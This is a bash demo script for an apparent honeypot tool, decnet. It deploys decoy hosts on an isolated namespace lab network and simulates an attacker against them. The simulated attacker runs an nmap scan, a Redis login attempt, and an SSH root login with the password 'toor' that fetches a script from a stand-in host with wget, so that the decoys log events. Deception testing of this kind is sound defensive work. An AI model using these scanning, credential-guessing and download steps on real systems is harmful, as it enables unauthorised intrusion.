#!/usr/bin/env bash
# The main job on a fresh machine: builds decnet, puts the demo fleet (demo.ini: five deckies of three OS
# families) on a lab LAN made of network namespaces, and scans it from the lab's attacker. Nothing touches the
# machine's own network. Needs root (network namespaces) and Swift 6.1+; installs what it needs with apt when
# it is missing (scripts/deps.sh, groups build and demo: the C libraries decnet links, iproute2, nmap,
# redis-cli, ssh and sshpass).
#
#   sudo ./scripts/lab-demo.sh
#
# It also starts the service bus, the workers (events into ./demo-state/decnet.db), the REST API on
# 127.0.0.1:8000 and the dashboard on 127.0.0.1:8080, and prints their address and the first login.
#
# Afterwards: `decnet status`, `decnet lab exec -- ssh root@10.77.0.10` (password toor), the events in
# ./demo-state/events.log and on the dashboard, and the removal commands printed at the end
# (with DECNET_STATE_DIR=./demo-state, which this script uses).
set -euo pipefail
cd "$(dirname "$0")/.."
if [ "$(id -u)" -ne 0 ]; then
    echo "lab-demo: network namespaces need root; run: sudo $0" >&2
    exit 1
fi
# What the Swift toolchain and our build need, and what the demo runs (scripts/deps.sh lists them; it says what
# it installs).
source scripts/deps.sh
deps_install toolchain build demo
deps_find_swift
swift build --product decnet
BIN=$(swift build --show-bin-path)/decnet
export DECNET_STATE_DIR="$PWD/demo-state" DECNET_INGEST_LOG_FILE="$PWD/demo-state/events.log"
mkdir -p "$DECNET_STATE_DIR"
# The API's signing key: made once for this demo, kept beside its state (mode 600).
if [ ! -s "$DECNET_STATE_DIR/jwt-secret" ]; then
    (umask 077 && head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n' > "$DECNET_STATE_DIR/jwt-secret")
fi
DECNET_JWT_SECRET=$(cat "$DECNET_STATE_DIR/jwt-secret")
export DECNET_JWT_SECRET
"$BIN" deploy --lab --config demo.ini
for daemon in bus workers api web; do
    "$BIN" "$daemon" status >/dev/null 2>&1 || "$BIN" "$daemon" start
done
echo
echo "== nmap -sV from the lab's attacker (10.77.0.254) =="
"$BIN" lab exec -- nmap -sV -n -T4 10.77.0.10-14
echo
echo "== a login attempt, and the event it left =="
"$BIN" lab exec -- redis-cli -h 10.77.0.10 -a Winter2024 --no-auth-warning PING || true
sleep 0.5
grep 'login' "$DECNET_INGEST_LOG_FILE" | tail -1
echo
echo "== an SSH login with the decky's weak root password, a command, and the events it left =="
"$BIN" lab exec -- sshpass -p toor ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o LogLevel=ERROR root@10.77.0.10 'uname -a; wget http://198.51.100.7/x.sh' || true
sleep 0.5
grep -E ' ssh - (login\.success|command\.input|file\.download) ' "$DECNET_INGEST_LOG_FILE" | tail -4
echo
echo "dashboard:        http://127.0.0.1:8080/   (API: http://127.0.0.1:8000/api/v1/)"
echo "first login:      admin / ${DECNET_ADMIN_PASSWORD:-admin}   (you choose a new password at the first login)"
echo "state and events: $DECNET_STATE_DIR    (DECNET_STATE_DIR=$DECNET_STATE_DIR $BIN status)"
echo "remove it all:    export DECNET_STATE_DIR=$DECNET_STATE_DIR; for d in web api workers bus; do $BIN \$d stop; done; $BIN teardown --all && $BIN lab down"
